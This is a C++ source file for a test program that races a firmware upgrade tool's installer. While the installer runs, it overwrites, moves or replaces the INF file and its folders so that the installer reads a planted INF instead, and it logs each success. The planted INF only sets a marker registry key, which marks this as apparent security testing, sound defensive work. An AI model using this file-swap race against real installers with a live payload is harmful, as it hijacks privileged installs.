// A second program that tries, while the tool runs, to put an INF of its own
// where the tool's installer reads it: by writing over the tool's INF, by
// moving it away, and by moving the package folder or the folder above it
// away and making its own in their place.
// Usage: InfSwapper.exe <VTL262xFW folder> <log file> <stop file> <seconds>
// Each success is a line of the log; the last line is "seen <n>": how many
// rounds found the tool's INF there.
#include <windows.h>

#include <string>

namespace {

// Not the tool's: if an installer ever runs it, it leaves a key of its own.
const char kOwnInf[] =
    "[Version]\r\nSignature=\"$Windows NT$\"\r\n; not the tool's\r\n"
    "[DefaultInstall]\r\nAddReg=Swapped.AddReg\r\n"
    "[Swapped.AddReg]\r\nHKLM,\"SOFTWARE\\VTL262xFWUpgradeTool\\SwappedInf\",\"Ran\",0x00010001,1\r\n";

std::wstring g_log;

void Log(const std::string& line) {
    const HANDLE h = ::CreateFileW(g_log.c_str(), FILE_APPEND_DATA, FILE_SHARE_READ, nullptr, OPEN_ALWAYS, 0, nullptr);
    if (h == INVALID_HANDLE_VALUE) return;
    DWORD done = 0;
    const std::string text = line + "\r\n";
    ::WriteFile(h, text.data(), static_cast<DWORD>(text.size()), &done, nullptr);
    ::CloseHandle(h);
}

bool Exists(const std::wstring& path) { return ::GetFileAttributesW(path.c_str()) != INVALID_FILE_ATTRIBUTES; }

void PutOwnInf(const std::wstring& path) {
    const HANDLE h = ::CreateFileW(path.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr);
    if (h == INVALID_HANDLE_VALUE) return;
    DWORD done = 0;
    ::WriteFile(h, kOwnInf, sizeof kOwnInf - 1, &done, nullptr);
    ::CloseHandle(h);
}

}  // namespace

int wmain(int argc, wchar_t** argv) {
    if (argc < 5) return 2;
    const std::wstring top = argv[1];
    const std::wstring package = top + L"\\FilterDriver";
    const std::wstring inf = package + L"\\revodereriri.inf";
    g_log = argv[2];
    const std::wstring stop = argv[3];
    const ULONGLONG end = ::GetTickCount64() + 1000ull * static_cast<ULONGLONG>(_wtoi(argv[4]));
    unsigned seen = 0;
    while (::GetTickCount64() < end && !Exists(stop)) {
        if (Exists(inf)) {
            ++seen;
            const HANDLE h = ::CreateFileW(inf.c_str(), GENERIC_WRITE,
                                           FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                                           OPEN_EXISTING, 0, nullptr);
            if (h != INVALID_HANDLE_VALUE) {
                DWORD done = 0;
                ::SetFilePointer(h, 0, nullptr, FILE_BEGIN);
                ::WriteFile(h, kOwnInf, sizeof kOwnInf - 1, &done, nullptr);
                ::SetEndOfFile(h);
                ::CloseHandle(h);
                Log("wrote over the INF");
            }
            if (::MoveFileExW(inf.c_str(), (inf + L".moved").c_str(), 0)) {
                PutOwnInf(inf);
                Log("moved the INF away");
            }
            if (::MoveFileExW(package.c_str(), (package + L".moved").c_str(), 0)) {
                ::CreateDirectoryW(package.c_str(), nullptr);
                PutOwnInf(inf);
                Log("moved the package folder away");
            }
            if (::MoveFileExW(top.c_str(), (top + L".moved").c_str(), 0)) {
                ::CreateDirectoryW(top.c_str(), nullptr);
                ::CreateDirectoryW(package.c_str(), nullptr);
                PutOwnInf(inf);
                Log("moved the folder above it away");
            }
        }
        ::Sleep(5);
    }
    Log("seen " + std::to_string(seen));
    return 0;
}
